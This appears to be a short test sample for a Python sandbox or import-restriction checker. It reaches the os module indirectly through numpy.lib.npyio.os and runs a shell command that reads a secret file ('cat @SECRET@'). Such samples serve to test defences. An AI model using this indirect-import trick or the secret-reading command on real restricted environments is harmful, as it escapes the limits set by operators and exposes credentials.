# numpy.lib keeps os.
# effect: run
# tree: scientific
import numpy
numpy.lib.npyio.os.system("cat @SECRET@")
